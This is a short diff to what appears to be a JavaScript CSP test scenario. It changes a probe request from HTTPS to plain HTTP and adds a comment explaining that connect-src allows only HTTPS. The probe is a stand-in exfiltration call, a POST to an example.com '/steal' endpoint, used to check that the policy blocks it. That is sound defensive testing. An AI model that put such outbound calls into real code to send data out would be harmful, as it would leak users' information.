@@ -272,7 +272,8 @@ export function scenarios(engine) {
       document.body.appendChild(el);
       let fetched = 'allowed';
       try {
-        await fetch('https://example.com/steal', { method: 'POST', body: 'x' });
+        // Plain HTTP to another host: `connect-src` allows HTTPS (`#url=`, docs/SHARING.md), not this.
+        await fetch('http://example.com/steal', { method: 'POST', body: 'x' });
       } catch {
         fetched = 'blocked';
       }
